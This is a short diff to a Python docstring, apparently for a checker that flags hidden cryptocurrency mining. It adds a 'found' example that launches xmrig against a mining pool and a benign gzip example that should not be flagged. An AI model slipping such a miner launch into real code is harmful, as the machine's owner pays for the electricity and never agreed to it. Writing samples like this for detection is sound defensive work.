@@ -1,6 +1,16 @@
 """The code computes cryptocurrency for somebody.
 
 The owner of the machine pays for the electricity.
+
+Found in `app.py`:
+
+    import subprocess
+    subprocess.Popen(['xmrig', '-o', 'stratum+tcp://pool.minexmr.com:4444', '-u', 'x'])
+
+Not found in `app.py`:
+
+    import subprocess
+    subprocess.Popen(['gzip', 'readings.csv'])
 """
 
 import re
